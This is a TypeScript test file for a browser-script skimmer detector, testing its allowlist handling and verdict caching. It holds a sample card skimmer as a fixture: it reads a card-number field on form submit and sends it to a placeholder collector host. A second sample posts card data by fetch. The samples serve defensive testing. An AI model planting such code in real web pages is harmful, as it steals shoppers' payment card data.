import { describe, expect, it } from 'vitest'
import { sha256 } from '../../core/hash.ts'
import { allowlisted, createAllowlist, defaultAllowlist } from '../../detector/allowlist.ts'
import shipped from '../../detector/allowlist-default.json' with { type: 'json' }
import { analyzeScript, createDetector } from '../../detector/index.ts'

const SKIM = `document.addEventListener('submit', function () {
  var n = document.querySelector('#cc-number').value
  new Image().src = 'https://collector.example/p.gif?d=' + btoa(n)
})`

describe('allowlist', () => {
  it('the shipped list is valid and normalised, as it is taken without a check at start', () => {
    expect(createAllowlist(shipped.entries).entries).toEqual(shipped.entries)
    expect(defaultAllowlist().entries).toEqual(shipped.entries)
    expect(() =>
      createAllowlist([{ host: 'Not A Host', reason: 'x', expires: '2030-01-01' }]),
    ).toThrow(/host like/)
  })

  it('by sha256: verdict clean, findings kept with zero points, reason named', () => {
    const list = createAllowlist([
      {
        sha256: sha256(SKIM),
        reason: 'vendor test harness reviewed by analyst',
        expires: '2999-01-01',
      },
    ])
    expect(analyzeScript(SKIM, { allowlist: createAllowlist([]) }).verdict).toBe('malicious')
    const v = analyzeScript(SKIM, { allowlist: list })
    expect(v.verdict).toBe('clean')
    expect(v.score).toBe(0)
    expect(v.findings[0]).toMatchObject({ rule: 'allowlisted', severity: 'info' })
    expect(v.findings[0]?.message).toContain('vendor test harness reviewed by analyst')
    expect(v.findings.map((f) => f.rule)).toContain('card-field-read-and-send')
    expect(v.findings.every((f) => f.points === 0)).toBe(true)
  })

  it('by host, with *. wildcards, only for the script URL', () => {
    const list = createAllowlist([
      { host: '*.braintreegateway.com', reason: 'Braintree SDK', expires: '2999-01-01' },
    ])
    const at = (url: string | null): string => analyzeScript(SKIM, { url, allowlist: list }).verdict
    expect(at('https://js.braintreegateway.com/web/3.1/client.js')).toBe('clean')
    expect(at('https://braintreegateway.com/x.js')).toBe('clean')
    expect(at('https://braintreegateway.com.evil.test/x.js')).toBe('malicious')
    expect(at(null)).toBe('malicious')
  })

  it('expired entries are ignored', () => {
    const list = createAllowlist([
      { sha256: sha256(SKIM), reason: 'old decision', expires: '2020-01-01' },
    ])
    expect(analyzeScript(SKIM, { allowlist: list }).verdict).toBe('malicious')
    expect(allowlisted(list, sha256(SKIM), null, new Date('2019-12-31'))).toBeDefined()
    expect(allowlisted(list, sha256(SKIM), null, new Date('2020-01-02'))).toBeUndefined()
  })

  it('the built-in list vouches for Stripe.js by host', () => {
    const v = analyzeScript(SKIM, { url: 'https://js.stripe.com/v3/' })
    expect(v.verdict).toBe('clean')
    expect(v.findings[0]?.message).toMatch(/Stripe/)
  })

  it('rejects entries without a reason, a date or a key', () => {
    expect(() => createAllowlist([{ host: 'a.example', expires: '2030-01-01' }])).toThrow()
    expect(() => createAllowlist([{ host: 'a.example', reason: 'x', expires: 'soon' }])).toThrow()
    expect(() => createAllowlist([{ reason: 'x', expires: '2030-01-01' }])).toThrow()
  })
})

describe('verdict cache', () => {
  it('a script already judged is not parsed again', () => {
    const d = createDetector({ cacheSize: 10 })
    const a = d.analyze(SKIM)
    const b = d.analyze(SKIM)
    expect(b).toEqual(a)
    expect(d.stats()).toMatchObject({ hits: 1, misses: 1, parses: 1, size: 1 })
  })

  it('context-free verdicts are shared across pages; context-dependent ones are keyed by site', () => {
    const d = createDetector()
    const jq = 'function f(a){return a+1}'
    d.analyze(jq, { pageUrl: 'https://shop-a.example/' })
    d.analyze(jq, { pageUrl: 'https://shop-b.example/' })
    expect(d.stats().parses).toBe(1)
    const post =
      "fetch('https://shop-a.example/api', { method: 'POST', body: JSON.stringify({ n: document.querySelector('#cc-number').value }) })"
    const home = d.analyze(post, { pageUrl: 'https://shop-a.example/checkout' })
    const away = d.analyze(post, { pageUrl: 'https://shop-b.example/checkout' })
    expect(d.stats().parses).toBe(3)
    expect(home.score).toBeLessThan(away.score)
  })

  it('evicts the least recently used entry and applies the allowlist on hits too', () => {
    const list = createAllowlist([{ sha256: sha256(SKIM), reason: 'r', expires: '2999-01-01' }])
    const d = createDetector({ cacheSize: 2 })
    d.analyze('var a = 1')
    d.analyze('var b = 2')
    d.analyze('var c = 3')
    expect(d.stats().size).toBe(2)
    d.analyze('var a = 1')
    expect(d.stats().parses).toBe(4)
    expect(d.analyze(SKIM).verdict).toBe('malicious')
    expect(d.analyze(SKIM, { allowlist: list }).verdict).toBe('clean')
  })
})
